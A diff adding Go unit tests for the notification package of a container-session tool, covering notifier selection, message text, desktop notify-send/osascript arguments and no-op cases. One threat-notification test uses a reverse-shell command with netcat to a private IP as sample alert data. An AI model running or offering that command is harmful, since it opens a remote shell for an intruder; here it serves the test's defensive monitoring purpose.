@@ -0,0 +1,165 @@
+package notify
+
+import (
+	"errors"
+	"reflect"
+	"strings"
+	"testing"
+	"time"
+)
+
+func TestNew(t *testing.T) {
+	for _, kind := range []string{"", "none", "NONE"} {
+		n, err := New(kind)
+		if err != nil {
+			t.Fatalf("New(%q) failed: %v", kind, err)
+		}
+		if _, ok := n.(Nop); !ok {
+			t.Errorf("New(%q) = %T, want Nop", kind, n)
+		}
+	}
+
+	n, err := New("desktop")
+	if err != nil {
+		t.Fatalf("New(desktop) failed: %v", err)
+	}
+	if _, ok := n.(*Desktop); !ok {
+		t.Errorf("New(desktop) = %T, want *Desktop", n)
+	}
+
+	if _, err := New("pager"); err == nil {
+		t.Error("New(pager) should fail for an unknown notifier")
+	}
+}
+
+func TestNotificationMessages(t *testing.T) {
+	tests := []struct {
+		name string
+		got  Notification
+		want Notification
+	}{
+		{
+			name: "session finished",
+			got:  SessionFinished("coi-abc-1", nil),
+			want: Notification{Title: "coi: session finished", Message: "Session in coi-abc-1 finished", Urgency: UrgencyNormal},
+		},
+		{
+			name: "session failed",
+			got:  SessionFinished("coi-abc-1", errors.New("exit status 2")),
+			want: Notification{Title: "coi: session failed", Message: "Session in coi-abc-1 ended with an error: exit status 2", Urgency: UrgencyNormal},
+		},
+		{
+			name: "timeout warning with auto-stop",
+			got:  TimeoutWarning("coi-abc-1", 5*time.Minute, true),
+			want: Notification{
+				Title:   "coi: runtime limit approaching",
+				Message: "Runtime limit of coi-abc-1 is reached in 5m0s - the container will be stopped",
+				Urgency: UrgencyNormal,
+			},
+		},
+		{
+			name: "timeout warning without auto-stop",
+			got:  TimeoutWarning("coi-abc-1", 90*time.Second+400*time.Millisecond, false),
+			want: Notification{Title: "coi: runtime limit approaching", Message: "Runtime limit of coi-abc-1 is reached in 1m30s", Urgency: UrgencyNormal},
+		},
+		{
+			name: "threat",
+			got:  Threat("coi-abc-1", "critical", "Reverse shell detected", "nc -e /bin/sh 10.0.0.1 4444", 0),
+			want: Notification{
+				Title:   "coi: critical threat in coi-abc-1",
+				Message: "Reverse shell detected: nc -e /bin/sh 10.0.0.1 4444",
+				Urgency: UrgencyCritical,
+			},
+		},
+		{
+			name: "collapsed threat",
+			got:  Threat("coi-abc-1", "critical", "Reverse shell detected", "", 3),
+			want: Notification{Title: "coi: critical threat in coi-abc-1", Message: "Reverse shell detected (x3)", Urgency: UrgencyCritical},
+		},
+		{
+			name: "action",
+			got:  Action("killed", "Container coi-abc-1 KILLED due to critical security threat"),
+			want: Notification{Title: "coi: container killed", Message: "Container coi-abc-1 KILLED due to critical security threat", Urgency: UrgencyCritical},
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			if tt.got != tt.want {
+				t.Errorf("got %+v, want %+v", tt.got, tt.want)
+			}
+		})
+	}
+}
+
+func TestDesktopCommand(t *testing.T) {
+	n := Notification{Title: "coi: session finished", Message: `Said "hi" \ bye`, Urgency: UrgencyCritical}
+
+	name, args, ok := desktopCommand("linux", n)
+	if !ok || name != "notify-send" {
+		t.Fatalf("linux: got %q, %v", name, ok)
+	}
+	wantArgs := []string{"--app-name=coi", "--urgency=critical", "--", n.Title, n.Message}
+	if !reflect.DeepEqual(args, wantArgs) {
+		t.Errorf("linux args = %q, want %q", args, wantArgs)
+	}
+
+	name, args, ok = desktopCommand("darwin", n)
+	if !ok || name != "osascript" {
+		t.Fatalf("darwin: got %q, %v", name, ok)
+	}
+	wantScript := `display notification "Said \"hi\" \\ bye" with title "coi: session finished" sound name "Basso"`
+	if len(args) != 2 || args[0] != "-e" || args[1] != wantScript {
+		t.Errorf("darwin args = %q, want [-e %q]", args, wantScript)
+	}
+
+	if _, args, _ := desktopCommand("linux", Notification{Title: "t", Message: "m"}); !strings.Contains(strings.Join(args, " "), "--urgency=normal") {
+		t.Errorf("missing urgency should default to normal, got %q", args)
+	}
+
+	if _, _, ok := desktopCommand("windows", n); ok {
+		t.Error("windows should have no notification command")
+	}
+}
+
+func TestDesktopNotify_MissingCommandIsNoop(t *testing.T) {
+	ran := false
+	d := &Desktop{
+		GOOS:     "linux",
+		LookPath: func(string) (string, error) { return "", errors.New("not found") },
+		Run: func(string, ...string) error {
+			ran = true
+			return nil
+		},
+	}
+	if err := d.Notify(SessionFinished("coi-abc-1", nil)); err != nil {
+		t.Errorf("Notify() = %v, want nil when notify-send is missing", err)
+	}
+	if ran {
+		t.Error("Notify() ran a command that isn't installed")
+	}
+
+	d.GOOS = "plan9"
+	d.LookPath = func(string) (string, error) { return "/bin/true", nil }
+	if err := d.Notify(SessionFinished("coi-abc-1", nil)); err != nil || ran {
+		t.Errorf("Notify() on an unsupported platform = %v (ran=%v), want a no-op", err, ran)
+	}
+}
+
+func TestDesktopNotify_Runs(t *testing.T) {
+	var gotName string
+	var gotArgs []string
+	d := &Desktop{
+		GOOS:     "linux",
+		LookPath: func(file string) (string, error) { return "/usr/bin/" + file, nil },
+		Run: func(name string, args ...string) error {
+			gotName, gotArgs = name, args
+			return nil
+		},
+	}
+	if err := d.Notify(Action("paused", "Container paused")); err != nil {
+		t.Fatalf("Notify() failed: %v", err)
+	}
+	if gotName != "notify-send" || gotArgs[len(gotArgs)-1] != "Container paused" {
+		t.Errorf("ran %q %q, want notify-send with the message", gotName, gotArgs)
+	}
+}